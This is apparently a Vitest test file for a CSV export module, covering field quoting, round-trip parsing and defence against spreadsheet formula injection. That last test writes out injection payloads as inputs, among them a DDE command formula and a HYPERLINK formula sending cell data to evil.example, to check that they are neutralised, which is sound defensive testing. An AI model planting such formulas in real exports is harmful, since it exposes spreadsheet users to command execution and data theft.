import { describe, expect, it } from 'vitest';
import { csvTable, type Column } from '../../app/compare/rows.ts';
import { csvField, csvLine, parseCsv } from '../../pipeline/csv.ts';

describe('CSV', () => {
  it('quotes fields with commas, quotes and line breaks, and leaves plain ones alone', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a, b')).toBe('"a, b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField(null)).toBe('');
    expect(csvField(0.5)).toBe('0.5');
  });

  it('round-trips awkward rows through parseCsv', () => {
    const rows = [
      ['id', 'text', 'score'],
      [1, 'He said: "Sovereignty, first."\nThen left.', -0.5],
      [2, '', 1],
    ];
    const text = rows.map(csvLine).join('');
    expect(text.endsWith('\r\n')).toBe(true);
    expect(parseCsv(text)).toEqual(rows.map((r) => r.map(String)));
  });

  it('puts an apostrophe before text a spreadsheet would run as a formula, and leaves numbers alone', () => {
    // OWASP's list: = + - @, tab and carriage return at the start of a cell.
    expect(csvField("=cmd|'/c calc'!A1")).toBe("'=cmd|'/c calc'!A1");
    expect(csvField('+1+1')).toBe("'+1+1");
    expect(csvField('-2-2')).toBe("'-2-2");
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('\t=1')).toBe("'\t=1");
    // Prefixed before quoting: the quotes hide nothing from a spreadsheet.
    expect(csvField('\r=1')).toBe('"\'\r=1"');
    expect(csvField('=HYPERLINK("http://evil.example/?x="&A1,"click")')).toBe('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"');
    // Only the first character counts, and numbers are numbers.
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField(' =1')).toBe(' =1');
    expect(csvField(-0.5)).toBe('-0.5');
    expect(csvLine(['-x', -2, null])).toBe("'-x,-2,\r\n");
  });

  it('writes a numeric column as a number even when the driver gave it as text', () => {
    const columns: Column[] = [{ name: 'group', type: 'string' }, { name: 'score', type: 'double' }, { name: 'n', type: 'int' }];
    expect(csvTable(columns, [['-x', '-0.5', '-3'], ['y', null, 2]])).toBe("group,score,n\r\n'-x,-0.5,-3\r\ny,,2\r\n");
  });
});
